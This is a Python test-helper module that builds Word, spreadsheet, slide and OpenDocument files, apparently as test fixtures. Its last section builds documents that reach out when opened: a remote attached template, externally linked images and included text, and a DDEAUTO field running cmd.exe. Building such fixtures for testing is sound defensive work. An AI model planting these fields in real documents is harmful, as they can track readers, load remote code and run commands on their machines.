"""Files as an office makes them, each with words on its pages; made here, none is copied."""

import io
import zipfile

import docx
import openpyxl

from tests.core import files_of_every_kind as made

OFFICE_1 = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml."
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
DECK = "http://schemas.openxmlformats.org/presentationml/2006/main"
NAMES = f'xmlns:a="{DRAWING}" xmlns:r="{OFFICE_1}" xmlns:p="{DECK}"'
TREE = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'


def word(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return _saved(document)


def sheet(rows: list[list[object]], style: str = "General") -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for cells in book.active.iter_rows(min_row=2, min_col=2):
        for cell in cells:
            cell.number_format = style
    return _saved(book)


def slides(*texts: str) -> bytes:
    """A slide with one box of text for each text."""
    numbers = range(1, len(texts) + 1)
    master = f"{OFFICE_1}/slideMaster", "slideMasters/slideMaster1.xml"
    parts = {
        "[Content_Types].xml": _types(len(texts)),
        "_rels/.rels": _links((f"{OFFICE_1}/officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": _presentation(len(texts)),
        "ppt/_rels/presentation.xml.rels": _links(
            master, *((f"{OFFICE_1}/slide", f"slides/slide{n}.xml") for n in numbers)
        ),
        "ppt/slideMasters/slideMaster1.xml": _master(),
        "ppt/slideMasters/_rels/slideMaster1.xml.rels": _links(
            (f"{OFFICE_1}/slideLayout", "../slideLayouts/slideLayout1.xml")
        ),
        "ppt/slideLayouts/slideLayout1.xml": _slide("sldLayout", ""),
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": _links((master[0], f"../{master[1]}")),
    }
    for number, text in zip(numbers, texts, strict=True):
        parts[f"ppt/slides/slide{number}.xml"] = _slide("sld", _box(text))
        parts[f"ppt/slides/_rels/slide{number}.xml.rels"] = _links(
            (f"{OFFICE_1}/slideLayout", "../slideLayouts/slideLayout1.xml")
        )
    return made.zipped(parts)


def open_document(body: str) -> bytes:
    """An .odt with this inside its <office:text>."""
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:body>'
        f"<office:text>{body}</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{made.ODT}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return made.odt(manifest=manifest, extra={"content.xml": content})


def _saved(document: object) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _types(slides: int) -> str:
    parts = {
        "presentation.xml": "presentation.main",
        "slideMasters/slideMaster1.xml": "slideMaster",
        "slideLayouts/slideLayout1.xml": "slideLayout",
        **{f"slides/slide{number}.xml": "slide" for number in range(1, slides + 1)},
    }
    overrides = "".join(
        f'<Override PartName="/ppt/{part}" ContentType="{SLIDES}{kind}+xml"/>'
        for part, kind in parts.items()
    )
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f"{overrides}</Types>"
    )


def _links(*targets: tuple[str, str]) -> str:
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(targets, 1)
    )
    return f'<Relationships xmlns="{PACKAGE}">{rows}</Relationships>'


def _presentation(slides: int) -> str:
    shown = "".join(f'<p:sldId id="{255 + n}" r:id="rId{n + 1}"/>' for n in range(1, slides + 1))
    return (
        f"<p:presentation {NAMES}><p:sldMasterIdLst>"
        '<p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>'
        f'<p:sldIdLst>{shown}</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/>'
        '<p:notesSz cx="6858000" cy="9144000"/></p:presentation>'
    )


def _master() -> str:
    colours = "bg1='lt1' tx1='dk1' bg2='lt2' tx2='dk2' folHlink='folHlink' hlink='hlink' "
    colours += " ".join(f"accent{n}='accent{n}'" for n in range(1, 7))
    rest = (
        f"<p:clrMap {colours}/><p:sldLayoutIdLst>"
        '<p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst>'
    )
    return _slide("sldMaster", "", rest)


def _slide(kind: str, boxes: str, rest: str = "") -> str:
    tree = f"<p:cSld><p:spTree>{TREE}{boxes}</p:spTree></p:cSld>"
    return f"<p:{kind} {NAMES}>{tree}{rest}</p:{kind}>"


def _box(text: str) -> str:
    return (
        '<p:sp><p:nvSpPr><p:cNvPr id="2" name="vak"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
        '<p:spPr><a:xfrm><a:off x="914400" y="914400"/><a:ext cx="7315200" cy="1371600"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
        f'<p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang="nl-NL" sz="2800"/><a:t>{text}</a:t></a:r>'
        "</a:p></p:txBody></p:sp>"
    )


# What reaches out when it is opened --------------------------------------------------------------

WORD_NAMES = (
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
INCH = 914_400


def reaching_word(text: str, address: str) -> bytes:
    """A letter whose template, picture and a part of its text are elsewhere, with a command."""
    with zipfile.ZipFile(io.BytesIO(word(text))) as old:
        parts = {name: old.read(name).decode("latin-1") for name in old.namelist()}
    template = _outside("attachedTemplate", f"{address}/brief.dotm")
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{PACKAGE}">{template}</Relationships>'
    )
    _insert(parts, "word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rIdUit"/>')
    picture = _outside("image", f"{address}/logo.png")
    _insert(parts, "word/_rels/document.xml.rels", "</Relationships>", picture)
    fields = (
        f"INCLUDETEXT &quot;{address}/deel.docx&quot;",
        f"INCLUDEPICTURE &quot;{address}/foto.png&quot; \\d",
        "DDEAUTO c:\\windows\\cmd.exe &quot;/k whoami&quot;",
    )
    body = "".join(f'<w:p><w:fldSimple w:instr=" {each} "/></w:p>' for each in fields)
    _insert(parts, "word/document.xml", "<w:sectPr", _linked_picture() + body)
    return made.zipped({name: text.encode("latin-1") for name, text in parts.items()})


def reaching_open_document(text: str, address: str) -> bytes:
    return open_document(
        f"<text:p>{text}<draw:frame draw:name='logo'><draw:image xlink:href='{address}/logo.png' "
        "xlink:type='simple' xlink:actuate='onLoad'/></draw:frame></text:p><text:section "
        f"text:name='s'><text:section-source xlink:href='{address}/deel.odt'/></text:section>"
    )


def _outside(kind: str, target: str) -> str:
    return (
        f'<Relationship Id="rIdUit" Type="{OFFICE_1}/{kind}" Target="{target}" '
        'TargetMode="External"/>'
    )


def _insert(parts: dict[str, str], name: str, before: str, text: str) -> None:
    assert before in parts[name]
    parts[name] = parts[name].replace(before, text + before, 1)


def _linked_picture() -> str:
    shape = (
        f'<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="{INCH}" cy="{INCH}"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
    )
    picture = (
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="9" name="logo"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdUit"/><a:stretch><a:fillRect/></a:stretch>'
        f"</pic:blipFill>{shape}</pic:pic>"
    )
    return (
        f'<w:p><w:r><w:drawing {NAMES} {WORD_NAMES}><wp:inline><wp:extent cx="{INCH}" '
        f'cy="{INCH}"/><wp:docPr id="9" name="logo"/><a:graphic><a:graphicData uri='
        '"http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f"{picture}</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
